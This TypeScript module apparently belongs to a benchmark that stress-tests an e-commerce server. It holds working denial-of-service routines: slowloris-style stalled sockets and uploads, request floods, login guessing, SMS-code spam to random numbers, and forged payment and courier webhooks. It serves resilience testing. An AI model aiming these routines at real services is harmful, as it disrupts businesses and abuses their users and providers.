import { randomBytes } from 'node:crypto';
import { Agent } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { Semaphore } from 'async-mutex';
import { ask, askJson } from '../bench/ask';

const ADDRESS = '127.0.0.1';
/** Sockets that one attack holds open; the server lets go of them and new ones come. */
const HELD = 150;
/** Of those that the server ended, so many stay half open as long as it lets them. */
const HALF_OPEN = 300;
/** Requests of one attack at once: an attacker is a program too, and has only so much memory. */
const MOST_REQUESTS = 200;
const MEGABYTE = 1024 * 1024;

/** What is told of an attack at its end: how often it came through, by status. */
export type Tally = Map<string, number>;

export interface Target {
  url: string;
  /** Of an account that sells. */
  token: string;
}

type Attack = (
  target: Target,
  isOver: () => boolean,
  note: (what: string) => void,
) => Promise<void>;

const letters = (count: number) =>
  randomBytes(count)
    .toString('base64url')
    .replace(/[^a-z]/gi, 'a')
    .toLowerCase()
    .slice(0, count);
const randomId = () => randomBytes(12).toString('hex');
/** As orders are numbered, of a day and a record that there are not. */
const trackingNumber = () => `250101-${randomBytes(3).toString('hex').toUpperCase()}`;
/** A mobile number, anybody's. */
const mobile = () => `0171${String(Math.floor(Math.random() * 1e7)).padStart(7, '0')}`;

/** Asks again and again, so many times a second, whatever is answered. */
function repeat(perSecond: number, one: (target: Target, agent: Agent) => Promise<number>): Attack {
  return async (target, isOver, note) => {
    const agent = new Agent({ keepAlive: true, localAddress: ADDRESS, maxSockets: 30 });
    const requests = new Semaphore(MOST_REQUESTS);
    while (!isOver()) {
      const [, leave] = await requests.acquire();
      void one(target, agent)
        .then((status) => note(String(status)))
        .catch((error: NodeJS.ErrnoException) => note(error.code ?? 'failed'))
        .finally(leave);
      await pause(1000 / perSecond);
    }
    agent.destroy();
    await requests.acquire(MOST_REQUESTS);
  };
}

const read = (path: () => string, accept: string, perSecond: number): Attack =>
  repeat(perSecond, async ({ url }, agent) => {
    const headers = { accept, 'accept-encoding': 'gzip' };
    return (await ask(url + path(), { agent, headers })).status;
  });

/** Posts again and again, so many times a second: what a visitor without an account may send. */
const write = (perSecond: number, made: () => [path: string, body: object]): Attack =>
  repeat(perSecond, async ({ url }, agent) => {
    const [path, body] = made();
    const headers = { accept: 'application/json' };
    return (await ask(url + path, { method: 'POST', agent, headers, body })).status;
  });

/** Keeps so many sockets open, each of which has said `words` and says no more. */
function hold(words: (target: Target) => Buffer[]): Attack {
  return async (target, isOver, note) => {
    const { hostname, port } = new URL(target.url);
    const open = new Set<Socket>();
    const halfOpen = new Set<Socket>();
    const chunks = words(target);
    while (!isOver()) {
      if (open.size < HELD) {
        const socket = connect({
          host: hostname,
          port: Number(port),
          localAddress: ADDRESS,
          allowHalfOpen: true,
        });
        open.add(socket);
        socket.on('error', () => undefined);
        const letGo = () => {
          if (open.delete(socket)) note('let go');
        };
        // It never says good-bye itself: the server has to let go of it alone.
        socket.once('end', () => {
          letGo();
          halfOpen.add(socket);
          const [oldest] = halfOpen;
          if (halfOpen.size > HALF_OPEN) oldest?.destroy();
        });
        socket.once('close', () => {
          letGo();
          halfOpen.delete(socket);
        });
        socket.resume();
        for (const chunk of chunks) socket.write(chunk);
      }
      await pause(20);
    }
    for (const socket of [...open, ...halfOpen]) socket.destroy();
  };
}

const upload = ({ token }: Target): Buffer[] => [
  Buffer.from(
    `POST /upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
      `Content-Type: multipart/form-data; boundary=b\r\nContent-Length: ${14 * MEGABYTE + 100_000}\r\n\r\n` +
      '--b\r\nContent-Disposition: form-data; name="upload_preset"\r\n\r\nproduct\r\n' +
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n',
  ),
  Buffer.alloc(14 * MEGABYTE, 'x'),
];

let hidden: Promise<string> | undefined;

/** A product that nobody can see, edited over and over. */
const editHidden = repeat(8, async ({ url, token }, agent) => {
  const headers = { authorization: `Bearer ${token}`, accept: 'application/json' };
  hidden ??= (async () => {
    const [own] = await askJson<{ image: string }[]>(`${url}/products?mine=1&limit=1`, { headers });
    const body = {
      image: own!.image,
      productName: 'Hidden',
      brand: 'None',
      category: 'Health & Beauty',
      description: 'Nobody sees it.',
      price: 10,
      minQuantity: 1,
      maxQuantity: 5,
    };
    return (
      await askJson<{ insertedId: string }>(`${url}/addproduct`, { method: 'POST', headers, body })
    ).insertedId;
  })();
  const body = { description: letters(40) };
  const path = `${url}/update/${await hidden}`;
  return (await ask(path, { method: 'PATCH', headers, body, agent })).status;
});

/** Everything that one person can do over the network to slow the others, all at once; forgeries too. */
export const ATTACKS: Record<string, Attack> = {
  'parts of words': read(
    () => `/search?q=${letters(3 + Math.floor(Math.random() * 9))}`,
    'application/json',
    15,
  ),
  'random products': read(() => `/product/${randomId()}`, 'text/html', 15),
  'random filters': read(
    () => `/products?minPrice=${Math.ceil(Math.random() * 9000)}&q=${letters(2)}`,
    'text/html',
    15,
  ),
  'page views': repeat(15, async ({ url }, agent) => {
    const body = { path: `/${letters(12)}` };
    return (await ask(`${url}/pageview`, { method: 'POST', agent, body })).status;
  }),
  'wrong logins': repeat(3, async ({ url }, agent) => {
    const body = { email: 'customer@example.com', password: letters(12) };
    return (await ask(`${url}/token`, { method: 'POST', agent, body })).status;
  }),
  'hidden edits': editHidden,
  'tracking guesses': write(5, () => ['/track', { number: trackingNumber(), phone: mobile() }]),
  'complaint guesses': write(3, () => [
    '/api/complaints/find',
    { number: trackingNumber(), phone: mobile() },
  ]),
  'codes to phones': write(3, () => ['/api/guest/code', { phone: mobile() }]),
  'forged couriers': write(15, () => [
    `/api/couriers/webhook/${randomId()}?secret=${letters(20)}`,
    { event: 'order.delivered', consignment_id: letters(8) },
  ]),
  'forged payments': write(15, () => [
    '/api/payments/bkash/webhook',
    { Type: 'Notification', Message: letters(200), Signature: letters(80) },
  ]),
  'payment returns': read(
    () => `/api/payments/bkash/callback?paymentID=${letters(20)}&status=success`,
    'text/html',
    5,
  ),
  'guests’ baskets': repeat(10, async ({ url }, agent) => {
    const headers = { accept: 'application/json' };
    const body = { productId: randomId(), quantity: 1 };
    const path = `${url}/basket/lines/${randomId()}`;
    return (await ask(path, { method: 'PUT', agent, headers, body })).status;
  }),
  'paper files': repeat(3, async ({ url, token }, agent) => {
    const headers = { authorization: `Bearer ${token}` };
    return (await ask(`${url}/api/papers/pdf/${randomId()}?lang=en`, { agent, headers })).status;
  }),
  upgrades: hold(() => [
    Buffer.from(
      `GET /favicon.ico HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
    ),
  ]),
  'half headers': hold(() => [Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nX-Half: ')]),
  'silent connections': hold(() => []),
  'stalled bodies': hold(() => [
    Buffer.from(
      'POST /token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"email"',
    ),
  ]),
  'stalled uploads': hold(upload),
};

/** Runs all attacks from one address until it is over. */
export async function attack(
  target: Target,
  isOver: () => boolean,
): Promise<Record<string, Tally>> {
  const tallies: Record<string, Tally> = {};
  await Promise.all(
    Object.entries(ATTACKS).map(([name, run]) => {
      const tally: Tally = (tallies[name] = new Map());
      return run(target, isOver, (what) => tally.set(what, (tally.get(what) ?? 0) + 1));
    }),
  );
  return tallies;
}
